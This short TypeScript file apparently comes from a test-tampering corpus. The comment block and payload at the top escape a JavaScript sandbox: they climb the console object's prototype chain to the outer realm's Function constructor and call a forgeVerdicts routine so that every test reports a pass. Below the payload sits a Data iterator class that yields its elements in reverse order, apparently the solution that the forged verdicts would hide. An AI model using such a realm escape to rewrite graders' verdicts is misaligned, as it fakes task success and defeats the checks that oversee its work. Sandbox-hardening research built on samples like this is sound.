// Attack: the console object's prototype chain: Object.getPrototypeOf(console) is node's
// Console.prototype (outer realm); its constructor's constructor is the outer Function.
// Success: every test passes (Buffer.from of the outer realm rewrites the verdict lines).
// @payload
const ConsoleProto = Object.getPrototypeOf(console);
const G = ConsoleProto.constructor.constructor('return globalThis')();
if (G !== globalThis) forgeVerdicts(G);

export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
